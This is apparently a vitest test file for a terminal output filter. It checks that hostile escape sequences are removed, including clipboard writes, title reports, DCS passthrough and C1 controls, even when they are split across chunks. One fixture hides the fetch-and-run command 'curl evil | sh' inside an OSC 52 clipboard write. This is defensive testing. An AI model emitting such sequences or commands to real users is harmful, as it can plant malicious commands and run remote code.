import { describe, expect, it } from 'vitest';
import { TerminalOutputFilter } from '../../../src/util/terminal-filter.js';
import { seededRandom } from '../../../bench/lib/seeded-random.mjs';

const filtered = (text: string, chunks: number[] = []): string => {
  const filter = new TerminalOutputFilter();
  const bytes = Buffer.from(text, 'utf8');
  let out = '';
  let from = 0;
  for (const size of [...chunks, bytes.length]) {
    out += filter.push(bytes.subarray(from, from + size)).toString('utf8');
    from += size;
  }
  return out;
};

describe('TerminalOutputFilter', () => {
  it('passes text, colours, cursor moves, erases and modes as they are', () => {
    const screen = 'héllo \x1b[1;31mred\x1b[0m\r\n\x1b[2J\x1b[H\x1b[?1049h\x1b[?25l\x1b7\x1b8\x1b(B\x1b=\ttab\x07';
    expect(filtered(screen)).toBe(screen);
  });

  it('drops clipboard writes, titles, hyperlinks, DCS, APC, PM and SOS, ended by BEL or ST', () => {
    const clipboard = `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`;
    const hostile = `a${clipboard}b\x1b]2;owned\x1b\\c\x1b]8;;http://x\x07link\x1b]8;;\x07d\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\e\x1b_apc\x1b\\f\x1b^pm\x1b\\g\x1bXsos\x1b\\h`;
    expect(filtered(hostile)).toBe('abclinkdefgh');
  });

  it('drops C1 controls written as UTF-8 (CSI and OSC to a terminal that honours them) and keeps the rest of Latin-1', () => {
    expect(filtered('a\u009b2Jb\u009d52;c;QQ==\u0007c\u00a0\u00e9\u00ffd', [2, 1, 3])).toBe('a2Jb52;c;QQ==\u0007c\u00a0\u00e9\u00ffd');
  });

  it('drops window operations (move, resize, report the title into the input) and keeps other CSI', () => {
    expect(filtered('a\x1b[21tb\x1b[8;100;200tc\x1b[6nd')).toBe('abc\x1b[6nd');
  });

  it('judges a sequence split across chunks whole, wherever the chunks break', () => {
    const text = `x\x1b]52;c;${'QUJD'.repeat(20)}\x07y\x1b[31mz\x1b]0;t\x1b\\w`;
    const want = 'xy\x1b[31mzw';
    const random = seededRandom(7);
    for (let trial = 0; trial < 200; trial++) {
      const chunks: number[] = [];
      for (let left = text.length; left > 0; ) {
        const size = 1 + Math.floor(random() * 6);
        chunks.push(size);
        left -= size;
      }
      expect(filtered(text, chunks)).toBe(want);
    }
  });

  it('never lets a string sequence through, whatever bytes surround it (random trials)', () => {
    const random = seededRandom(11);
    const pieces = ['plain', '\x1b[1m', '\x1b]52;c;QQ==\x07', '\x1b]2;t\x1b\\', '\x1bPq#0\x1b\\', '\x1b', '\x1b[', '\x1b(', '\x1b#', '\r\n', 'é', '\x07', '\u009d', '\u00a0', ']52;c;Tk9U\x07', 'P'];
    for (let trial = 0; trial < 500; trial++) {
      let text = '';
      for (let i = 0; i < 12; i++) text += pieces[Math.floor(random() * pieces.length)];
      const out = filtered(text, [1 + Math.floor(random() * 5)]);
      // A terminal runs C0 controls inside an escape without leaving it: ESC LF ] is an OSC to it.
      const seen = [...out].filter((c) => c === '\x1b' || c.charCodeAt(0) >= 0x20).join('');
      for (const introducer of [']', 'P', 'X', '^', '_']) expect(seen).not.toContain(`\x1b${introducer}`);
      expect(out).not.toMatch(/[\u0080-\u009f]/);
      expect(out).not.toContain(';c;QQ==');
    }
  });
});
